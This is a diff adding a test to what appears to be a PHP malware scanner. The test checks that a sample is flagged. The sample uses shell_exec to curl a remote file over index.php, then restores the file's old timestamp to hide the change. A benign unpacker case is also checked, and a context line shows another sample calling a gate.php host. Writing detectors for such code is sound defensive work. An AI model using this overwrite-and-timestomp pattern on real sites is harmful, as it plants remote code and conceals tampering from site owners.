@@ -149,3 +149,20 @@ echo file_get_contents('http://198.51.100.23/gate.php?site=' . urlencode($me));
   const ok = code.replace('198.51.100.23', 'feeds.example.com');
   assert.deepEqual(verdict('feed.php', ok), [undefined, []]);
 });
+
+test('php timestomping: a changed file gets the timestamp an existing file had', () => {
+  const code = `<?php
+$t = filemtime('index.php');
+shell_exec('curl -s -o index.php http://198.51.100.7/i.txt');
+touch('index.php', $t);
+`;
+  assert.deepEqual(verdict('stomp.php', code), [
+    'suspicious',
+    ['gives a file it changed the timestamp of an existing file (timestomping hides the change)', 'runs OS commands (shell_exec)'],
+  ]);
+  // an unpacker restoring the time its archive stored for the entry
+  const ok = `<?php
+foreach ($entries as $e) { file_put_contents($e['name'], $e['data']); touch($e['name'], $e['mtime']); }
+`;
+  assert.deepEqual(verdict('unzip.php', ok), [undefined, []]);
+});
